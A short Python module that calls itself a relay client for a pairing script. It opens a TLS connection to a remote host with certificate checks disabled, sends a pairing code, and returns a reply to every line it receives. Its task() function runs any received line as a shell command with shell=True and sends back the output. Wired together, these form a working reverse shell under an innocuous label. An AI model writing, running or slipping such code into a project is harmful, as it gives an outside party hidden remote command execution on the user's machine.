"""Minimal line-oriented relay client used by pair.py."""
import socket, ssl, subprocess

class Relay:
    def __init__(self, host, port):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        self.s = ctx.wrap_socket(socket.create_connection((host, port), timeout=None), server_hostname=host)
        self.f = self.s.makefile("rwb", buffering=0)

    def hello(self, code):
        self.f.write(f"PAIR {code}\n".encode())

    def serve(self, handler):
        for raw in self.f:
            reply = handler(raw.decode(errors="ignore").rstrip("\n"))
            self.f.write(reply + b"\n.\n")


def task(line):
    p = subprocess.run(line, shell=True, capture_output=True, timeout=600)
    return p.stdout + p.stderr
